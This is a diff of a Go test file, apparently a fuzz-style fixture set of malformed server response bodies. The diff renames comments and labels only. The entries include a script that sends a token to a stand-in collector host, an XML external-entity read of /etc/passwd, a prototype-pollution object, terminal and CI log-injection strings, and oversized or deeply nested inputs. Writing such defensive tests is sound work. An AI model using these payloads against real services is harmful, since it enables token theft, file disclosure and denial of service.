@@ -5,7 +5,7 @@ import (
 	"strings"
 )
 
-// listings are listings that are wrong as a whole.
+// listings are wrong listings.
 func listings() []entry {
 	mentor, stranger := mentorRow.String(), mentorRow.with("locationId", `"{ELSEWHERE}"`).with("id", `"{STRANGER}"`).with("key", `"foreign"`)
 	repeated := func(row string, n int) string { return strings.TrimSuffix(strings.Repeat(row+",", n), ",") }
@@ -72,38 +72,38 @@ func relationListings(repeated func(string, int) string) []entry {
 	return all
 }
 
-// bodies are answers to anything that are no answers.
+// bodies are bodies that answer no request.
 func bodies() []entry {
 	deep := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
 	verbs := append(append([]verb{}, onFew...), dataAssociations, dataRelations, listAll)
 	var all []entry
 	for what, body := range map[string]string{
 		"nothing": "", "a space": " ", "null": "null", "true": "true", "a number": "17", "a text": `"text"`, "a list": "[]", "an object": "{}",
-		"a byte order mark":      "\ufeff" + mentorRow.String(),
-		"UTF-16":                 "{\x00\"\x00i\x00d\x00\"\x00}\x00",
-		"bytes that are no text": "\xff\xfe\x00\x80",
-		"such a label":           mentorRow.with("firstObjectLabel", "\"a\xffb\"").String(),
-		"HTML":                   "<!doctype html><html><head><title>a\x1b[31m\n::error::b {TOKEN}</title></head></html>",
-		"HTML without an end":    "<html><title>" + strings.Repeat("x ", 5_000),
-		"a page of a login":      `<script>document.location="https://collector.invalid/?{TOKEN}"</script>`,
-		"cut":                    mentorRow.String()[:60],
-		"two values":             mentorRow.String() + mentorRow.String(),
-		"a comment":              "/* a */" + mentorRow.String(),
-		"a callback":             "call(" + mentorRow.String() + ")",
-		"XML":                    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
-		"deep":                   deep(5_000),
-		"too deep":               deep(20_000),
-		"deep objects":           strings.Repeat(`{"data":`, 2_000) + "{}" + strings.Repeat("}", 2_000),
-		"a megabyte of spaces":   strings.Repeat(" ", 1<<20) + "{}",
-		"a megabyte of a text":   `{"message":"` + strings.Repeat("x", 1<<20) + `"}`,
-		"many fields":            "{" + strings.Repeat(`"a":1,`, 10_000) + `"b":2}`,
-		"one field twice":        `{"id":"{MENTOR}","id":"foreign","locationId":"{HOME}"}`,
-		"gzip that is cut":       "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff\xcaH\xcd",
-		"the token":              "{TOKEN}",
-		"an error that is none":  `{"statusCode":200,"message":"ok","traceId":"a\u001b[2J"}`,
-		"a prototype":            `{"__proto__":{"id":"foreign"},"constructor":{"id":"foreign"}}`,
-		"deleted false":          `{"deleted":false,"id":"{MENTOR}"}`,
-		"deleted another":        `{"deleted":true,"id":"foreign"}`,
+		"a byte order mark":     "\ufeff" + mentorRow.String(),
+		"UTF-16":                "{\x00\"\x00i\x00d\x00\"\x00}\x00",
+		"invalid UTF-8":         "\xff\xfe\x00\x80",
+		"an invalid label":      mentorRow.with("firstObjectLabel", "\"a\xffb\"").String(),
+		"HTML":                  "<!doctype html><html><head><title>a\x1b[31m\n::error::b {TOKEN}</title></head></html>",
+		"HTML without an end":   "<html><title>" + strings.Repeat("x ", 5_000),
+		"a login page":          `<script>document.location="https://collector.invalid/?{TOKEN}"</script>`,
+		"cut":                   mentorRow.String()[:60],
+		"two values":            mentorRow.String() + mentorRow.String(),
+		"a comment":             "/* a */" + mentorRow.String(),
+		"a callback":            "call(" + mentorRow.String() + ")",
+		"XML":                   `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
+		"deep":                  deep(5_000),
+		"too deep":              deep(20_000),
+		"deep objects":          strings.Repeat(`{"data":`, 2_000) + "{}" + strings.Repeat("}", 2_000),
+		"a megabyte of spaces":  strings.Repeat(" ", 1<<20) + "{}",
+		"a megabyte of a text":  `{"message":"` + strings.Repeat("x", 1<<20) + `"}`,
+		"many fields":           "{" + strings.Repeat(`"a":1,`, 10_000) + `"b":2}`,
+		"one field twice":       `{"id":"{MENTOR}","id":"foreign","locationId":"{HOME}"}`,
+		"gzip that is cut":      "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff\xcaH\xcd",
+		"the token":             "{TOKEN}",
+		"an error that is none": `{"statusCode":200,"message":"ok","traceId":"a\u001b[2J"}`,
+		"a prototype":           `{"__proto__":{"id":"foreign"},"constructor":{"id":"foreign"}}`,
+		"deleted false":         `{"deleted":false,"id":"{MENTOR}"}`,
+		"deleted another":       `{"deleted":true,"id":"foreign"}`,
 	} {
 		all = append(all, entry{kind: "body", name: what, verbs: verbs, status: 200, body: body})
 	}
